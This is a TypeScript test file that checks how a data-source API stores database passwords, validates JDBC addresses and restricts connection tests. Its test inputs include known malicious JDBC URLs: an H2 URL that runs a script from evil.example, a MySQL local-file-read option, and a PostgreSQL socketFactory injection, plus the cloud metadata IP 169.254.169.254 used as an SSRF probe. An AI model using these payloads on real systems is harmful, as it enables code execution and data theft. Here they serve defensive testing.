import { readFileSync } from 'node:fs'
import net from 'node:net'
import { join } from 'node:path'
import { sql } from 'kysely'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { TestServer } from '../resources/test-server.ts'

const shipped = ['system/data-source', 'dict/database-type', 'system/data-log', 'system/operation-log']
const files = Object.fromEntries(
  shipped.map((name) => [`${name}.json`, JSON.parse(readFileSync(`schemas/${name}.json`, 'utf8'))]),
)
let server: TestServer
let proxy: net.Server
let port: number
beforeAll(async () => {
  server = await TestServer.open(files)
  const { host, port: databasePort } = server.test.links.app
  proxy = net.createServer((socket) => {
    // The embedded database listens to a socket file only.
    const database =
      databasePort === undefined
        ? net.connect(join(String(host), '.s.PGSQL.5432'))
        : net.connect(databasePort, String(host))
    socket.pipe(database).pipe(socket)
    for (const end of [socket, database]) end.on('error', () => undefined)
  })
  await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve))
  port = (proxy.address() as net.AddressInfo).port
  server.services.config.dataSourceHosts.push('127.0.0.1')
})
afterAll(async () => {
  proxy?.close()
  await server?.close()
})

const admin = async (method: 'GET' | 'POST' | 'PUT' | 'DELETE', url: string, call = {}) =>
  (await server.call('admin', method, `/jeecg-boot${url}`, call)).body
const source = (code: string) => ({
  code,
  name: '档案库',
  dbType: '6',
  dbDriver: 'org.postgresql.Driver',
  dbHost: '127.0.0.1',
  dbPort: port,
  dbName: String(server.test.links.app.database),
  dbUsername: String(server.test.links.app.user),
  dbPassword: 'opensesame-5',
})
const add = async (code: string, values = {}) =>
  (await admin('POST', '/sys/dataSource/add', { body: { ...source(code), ...values } })).result
const test = (body: object) => admin('POST', '/online/cgreport/api/testConnection', { body })

it('a password is stored encrypted and is in no answer and in no log', async () => {
  const { id } = await add('archive')
  const stored = await sql<{ db_password: string }>`
    select db_password from sys_data_source_secret where data_source_id = ${id}`.execute(
    server.services.db.app,
  )
  expect(stored.rows[0]?.db_password).toMatch(/^v1\./)
  const answers = await Promise.all([
    admin('GET', '/sys/dataSource/list'),
    admin('GET', '/sys/dataSource/queryById', { query: { id } }),
    admin('GET', '/resource/system/data-source/list'),
    admin('GET', '/sys/dataLog/list', { query: { dataId: id } }),
  ])
  expect(answers[0]?.result.records[0]).toMatchObject({
    code: 'archive',
    dbUrl: expect.stringContaining(':'),
  })
  const logged = await sql`select * from sys_audit`.execute(server.services.db.app)
  expect(JSON.stringify([answers, logged.rows])).not.toMatch(/opensesame|v1\./)
})

it('a client of the contract sends an address, which only names host, port and database', async () => {
  const { dbHost: _host, dbPort: _port, dbName: _name, ...rest } = source('contract')
  const send = (dbUrl: string) => admin('POST', '/sys/dataSource/add', { body: { ...rest, dbUrl } })
  for (const dbUrl of [
    'jdbc:h2:mem:test;INIT=RUNSCRIPT FROM http://evil.example/a.sql',
    'jdbc:mysql://10.0.0.5:3306/a?allowLoadLocalInfile=true',
    'jdbc:postgresql://10.0.0.5:5432/a?socketFactory=org.evil.Factory',
    'jdbc:postgresql://10.0.0.5:99999/a',
  ])
    expect((await send(dbUrl)).message, dbUrl).toContain('数据源地址写作 jdbc:postgresql://')
  const { result } = await send('jdbc:postgresql://10.0.0.5:5432/archive')
  expect(result).toMatchObject({ dbHost: '10.0.0.5', dbPort: 5432, dbName: 'archive' })
})

it('a stored password is not sent to another address', async () => {
  const { id } = await add('moved')
  const edit = (body: object) => admin('PUT', '/sys/dataSource/edit', { body: { id, ...body } })
  expect(await edit({ dbHost: 'evil.example' })).toMatchObject({
    success: false,
    result: { problems: [{ path: '/dbPassword', text: '地址或用户名改了，请重新填写密码' }] },
  })
  expect(await edit({ name: '新名称' })).toMatchObject({ success: true })
  expect(await edit({ dbHost: '10.0.0.6', dbPassword: 'another-6' })).toMatchObject({ success: true })
})

it('a connection is tested with the stored credentials', async () => {
  const { id } = await add('tested')
  expect(await test({ id })).toMatchObject({ success: true, message: '数据库连接成功' })
  const none = await add('no-database', { dbName: 'no_such_database' })
  expect(await test({ id: none.id })).toMatchObject({ success: false, message: '连接失败：没有这个数据库' })
})

it('the values of a form are tested, and a stored password only with its own address and user', async () => {
  const { id } = await add('typed')
  const { dbHost, dbName, dbUsername } = source('typed')
  const typed = (values: object) =>
    test({
      id,
      dbDriver: 'org.postgresql.Driver',
      dbUrl: `jdbc:postgresql://${dbHost}:${port}/${dbName}`,
      dbUsername,
      ...values,
    })
  expect(await typed({})).toMatchObject({ success: true })
  const other = 'jdbc:postgresql://127.0.0.1:1/archive'
  const asks = { success: false, message: '地址或用户名改了，请重新填写密码' }
  expect(await typed({ dbUrl: other })).toMatchObject(asks)
  expect(await typed({ dbUsername: 'someone' })).toMatchObject(asks)
  const answer = await typed({ dbUrl: other, dbPassword: 'typed-secret-9' })
  expect(answer.message).toBe('连接失败：对方没有数据库在听这个端口')
  const logged = await sql`select * from sys_audit`.execute(server.services.db.app)
  expect(JSON.stringify([answer, logged.rows])).not.toContain('typed-secret-9')
})

it('a connection is tested only to listed hosts, only for a kind that reports read, and only with the right', async () => {
  const hidden = await add('hidden', { dbHost: '169.254.169.254' })
  expect((await test({ id: hidden.id })).message).toContain('DATA_SOURCE_HOSTS')
  const oracle = { dbDriver: 'oracle.jdbc.OracleDriver', dbUrl: `jdbc:oracle:thin:@127.0.0.1:${port}/orcl` }
  expect((await test(oracle)).message).toBe('只能连接 PostgreSQL、MySQL 和 MariaDB')
  const url = '/jeecg-boot/online/cgreport/api/testConnection'
  expect((await server.call('nobody', 'POST', url, { body: { id: hidden.id } })).status).toBe(403)
})

it('the password is removed with its data source', async () => {
  const { id } = await add('gone')
  await admin('DELETE', '/sys/dataSource/delete', { query: { id } })
  const { rows } = await sql`select 1 from sys_data_source_secret where data_source_id = ${id}`.execute(
    server.services.db.app,
  )
  expect(rows).toEqual([])
  const { result } = await admin('GET', '/sys/dataSource/options')
  expect(result[0]).toEqual({ value: 'archive', label: '档案库', text: '档案库' })
})
